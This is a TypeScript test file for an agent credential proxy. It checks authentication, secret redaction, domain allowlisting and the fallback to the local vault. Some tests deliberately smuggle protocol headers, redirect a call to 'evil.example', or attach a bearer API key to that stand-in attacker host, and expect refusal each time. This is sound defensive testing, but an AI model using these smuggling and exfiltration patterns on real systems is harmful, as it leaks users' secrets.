// The proxy's client against the real server on loopback: what it sends, what it reads back, which errors it
// returns as they are, and when `openCredentialClient` goes to the proxy, opens the vault itself, or refuses.
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  type AgentSecrets,
  AgentSecretsError,
  createAgentSecrets,
  createMemoryStore,
  initAgentSecrets,
  type SecretStore,
} from '@agentsecrets/core';
import { findLeaks, startUpstream, type Upstream } from '@agentsecrets/testkit';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ProxyClient } from './client.js';
import { openCredentialClient } from './open.js';
import { type RunningProxy, startProxyServer } from './server.js';
import { clearProxyState, type ProxyState, writeProxyState } from './state.js';

const CANARY = 'sk_live_CLIENT_CANARY_5678efgh';
const PASSPHRASE = 'proxy client test passphrase';

let dir: string;
let home: string;
let cwd: string;
let upstream: Upstream;
let core: AgentSecrets;
let store: SecretStore;
let proxy: RunningProxy;
let lists = 0;

function stateOf(p: RunningProxy, token = p.token): ProxyState {
  return { pid: process.pid, host: p.host, port: p.port, token, startedAt: new Date().toISOString() };
}

async function codeOf(promise: Promise<unknown>): Promise<string | undefined> {
  try {
    await promise;
  } catch (e) {
    return e instanceof AgentSecretsError ? e.code : `FOREIGN ${String(e)}`;
  }
  return undefined;
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'as-proxy-client-'));
  upstream = await startUpstream();
  home = join(dir, 'home');
  cwd = join(dir, 'app');
  await initAgentSecrets({ home, cwd, passphrase: PASSPHRASE, keychain: 'memory' });
  const memory = createMemoryStore();
  // Counts the vault's listings: the health check must not reach the vault.
  store = new Proxy(memory, {
    get(target, name, receiver) {
      const v = Reflect.get(target, name, receiver);
      if (name === 'list') {
        return (...args: Parameters<SecretStore['list']>) => {
          lists += 1;
          return target.list(...args);
        };
      }
      return typeof v === 'function' ? v.bind(target) : v;
    },
  });
  core = await createAgentSecrets({ home, cwd, store });
  const owner = await core.unlockOwner(PASSPHRASE);
  await core.allowlist.add([`http://127.0.0.1:${upstream.port}`], owner);
  await core.setSecret('API_KEY', CANARY);
  proxy = await startProxyServer({ core, port: 0 });
});

afterEach(async () => {
  await clearProxyState(core.paths, process.pid);
});

afterAll(async () => {
  await proxy.close();
  await upstream.close();
  await rm(dir, { recursive: true, force: true });
});

describe('ProxyClient', () => {
  it('checks the proxy on its cheap authenticated route, without touching the vault', async () => {
    const client = new ProxyClient(stateOf(proxy));
    try {
      const before = lists;
      await client.check();
      expect(await client.health()).toBe(true);
      expect(lists).toBe(before);
      await client.status();
      expect(lists).toBeGreaterThan(before);
    } finally {
      await client.close();
    }
    const wrong = new ProxyClient(stateOf(proxy, 'not-the-token'));
    try {
      expect(await codeOf(wrong.check())).toBe('UNAUTHORIZED');
      expect(await wrong.health()).toBe(false);
    } finally {
      await wrong.close();
    }
  });

  it('sends a call with its injections and reads back the redacted answer without the protocol headers', async () => {
    const client = new ProxyClient(stateOf(proxy));
    try {
      upstream.requests.length = 0;
      const res = await client.fetch({
        url: `${upstream.origin}/echo`,
        method: 'post',
        headers: [
          ['X-Custom', 'kept'],
          ['X-AS-Inject-Header-X-Smuggled', 'API_KEY'],
          ['X-AS-Target-URL', 'https://evil.example/'],
        ],
        body: 'hello',
        injections: [{ style: 'bearer', target: undefined, key: 'API_KEY' }],
        transport: 'cli',
        agentId: 'client-test',
      });
      expect(res.status).toBe(200);
      expect(res.redacted).toBe(true);
      const seen = upstream.requests[0]!;
      expect(seen.method).toBe('POST');
      expect(seen.headers.authorization).toBe(`Bearer ${CANARY}`);
      expect(seen.headers['x-custom']).toBe('kept');
      expect(seen.headers['x-smuggled']).toBeUndefined();
      expect(Object.keys(seen.headers).filter((h) => h.toLowerCase().startsWith('x-as-'))).toEqual([]);
      expect(res.headers.filter(([n]) => n.startsWith('x-as-'))).toEqual([]);
      expect(findLeaks(res.body.toString('utf8') + JSON.stringify(res.headers), CANARY)).toEqual([]);
    } finally {
      await client.close();
    }
  });

  it("returns the proxy's refusal as its error, and an upstream's error status as an answer", async () => {
    const client = new ProxyClient(stateOf(proxy));
    try {
      const refused = client.fetch({
        url: 'https://evil.example/',
        injections: [{ style: 'bearer', target: undefined, key: 'API_KEY' }],
        transport: 'cli',
      });
      expect(await codeOf(refused)).toBe('DOMAIN_NOT_ALLOWED');
      const answer = await client.fetch({
        url: `${upstream.origin}/status?code=403`,
        injections: [],
        transport: 'cli',
      });
      expect(answer.status).toBe(403);
      expect(answer.body.toString()).toBe('status 403');
    } finally {
      await client.close();
    }
  });
});

describe('openCredentialClient', () => {
  const options = () => ({ home, cwd, store });

  it('opens the vault itself when no proxy is recorded, or when nothing listens where one was', async () => {
    const none = await openCredentialClient(options());
    expect(none.via).toBe('local');
    await none.client.close();
    const gone = await startProxyServer({ core: await createAgentSecrets(options()), port: 0 });
    const state = stateOf(gone);
    await gone.close();
    await writeProxyState(core.paths, state);
    const stale = await openCredentialClient(options());
    expect(stale.via).toBe('local');
    await stale.client.close();
  });

  it('goes through the running proxy and returns its policy refusal as it is, never trying the vault instead', async () => {
    await writeProxyState(core.paths, stateOf(proxy));
    const { client, via } = await openCredentialClient(options());
    try {
      expect(via).toBe('proxy');
      expect(client).toBeInstanceOf(ProxyClient);
      const refused = client.fetch({
        url: 'https://evil.example/',
        injections: [{ style: 'bearer', target: undefined, key: 'API_KEY' }],
        transport: 'cli',
      });
      expect(await codeOf(refused)).toBe('DOMAIN_NOT_ALLOWED');
    } finally {
      await client.close();
    }
  });

  it('refuses, rather than opening the vault, when the running proxy does not take the recorded token', async () => {
    await writeProxyState(core.paths, stateOf(proxy, 'a-stale-token'));
    expect(await codeOf(openCredentialClient(options()))).toBe('UNAUTHORIZED');
  });

  it('applies the protocol rules to local calls too: an injection into a protocol header is refused', async () => {
    const { client, via } = await openCredentialClient(options());
    try {
      expect(via).toBe('local');
      const refused = client.fetch({
        url: `${upstream.origin}/echo`,
        injections: [{ style: 'header', target: 'X-AS-Target-URL', key: 'API_KEY' }],
        transport: 'cli',
      });
      expect(await codeOf(refused)).toBe('INVALID_INJECTION');
      upstream.requests.length = 0;
      await client.fetch({
        url: `${upstream.origin}/echo`,
        headers: { 'X-AS-Session-Token': 'caller-sent', 'X-Kept': '1' },
        injections: [],
        transport: 'cli',
      });
      expect(upstream.requests[0]!.headers['x-as-session-token']).toBeUndefined();
      expect(upstream.requests[0]!.headers['x-kept']).toBe('1');
    } finally {
      await client.close();
    }
  });
});
